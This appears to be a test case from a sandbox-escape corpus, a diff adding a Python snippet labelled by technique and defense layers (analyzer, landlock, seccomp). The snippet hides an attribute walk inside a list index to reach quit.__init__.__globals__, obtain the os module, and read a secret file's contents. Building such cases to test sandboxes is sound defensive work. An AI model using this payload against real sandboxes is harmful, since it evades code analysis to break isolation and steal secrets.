@@ -1,0 +1,11 @@
+# class: object graph walk
+# technique: a forbidden attribute in an index
+# layers: analyzer, landlock, seccomp, identity
+# code: user
+# witness: secret
+# interpreter-gap: yes
+host = _items[0]["json"]
+box = [0]
+box[(g := quit.__init__.__globals__) and 0]
+os = g["sys"].modules["os"]
+return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
